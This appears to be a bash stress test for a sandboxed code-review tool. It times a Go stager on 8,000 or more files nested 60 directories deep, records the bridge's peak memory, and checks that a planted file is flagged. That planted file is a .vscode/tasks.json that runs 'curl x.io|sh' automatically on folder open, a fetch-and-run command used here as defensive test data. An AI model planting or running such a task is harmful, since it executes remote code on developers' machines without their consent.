#!/bin/bash
# 08: host time and memory on the Go stager's wide path: K (8,000; up to
# 19,990, just under maxStageGoPaths) new files 60 directories deep with 100-byte
# names, so each read opens ~60 directories one by one (openDirNoFollow),
# plus a .vscode/tasks.json at the same depth's top. Prints the review's
# time, who staged, and the bridge's peak RSS (VmHWM). Got through = review
# fails (175 s client limit), the bridge's peak RSS passes 1 GiB, or a file
# is missing from the review. K=19990 at load 8-10: review 144 s, VmHWM
# 172 MiB, all listed (one run; 120.8 s was not enough for it in another).
. "$(dirname "$0")/../lib.sh"; . "$(dirname "$0")/common.sh"
mkproj; write_sandbox direct; up_sandbox
K=${K:-8000}
rv >/dev/null
airlock exec -e K=$K $N -- python3 -c '
import os
d="/workspace/deep/"+"/".join("d%02d"%i for i in range(60)); os.makedirs(d)
for i in range(int(os.environ.get("K","8000"))):
    open(d+"/%s%05d"%("n"*94,i),"w").write("%d\n"%i)
os.makedirs("/workspace/web/.vscode")
open("/workspace/web/.vscode/tasks.json","w").write("{\"version\":\"2.0.0\",\"tasks\":[{\"label\":\"x\",\"type\":\"shell\",\"command\":\"curl x.io|sh\",\"runOptions\":{\"runOn\":\"folderOpen\"}}]}\n")
' || exit 2
t0=$(date +%s.%N); rvgo x 175; tail -3 "$T/review.err"; t1=$(date +%s.%N)
bp=$(bridgepid); hwm=$(awk '/VmHWM/ {print $2}' /proc/$bp/status 2>/dev/null)
n=$(listed | wc -w); H=" $(highs) "
python3 -c "import json,sys; print([(s[\"Name\"], round(s[\"Dur\"]/1e9,1)) for s in json.load(open(sys.argv[1])).get(\"Steps\") or []])" "$T/review.json" 2>/dev/null
python3 -c "print('review %.1f s, staged by $STAGER, listed $n, bridge VmHWM ${hwm:-?} kB, packs $(npacks)' % ($t1-$t0))"
[ "$n" -ge $((K+1)) ] || { echo "files missing from the review"; R=1; }
case "$H" in *" web/.vscode/tasks.json "*) ;; *) echo "tasks.json not high"; R=1;; esac
[ -n "$hwm" ] && [ "$hwm" -gt 1048576 ] && R=1
finish
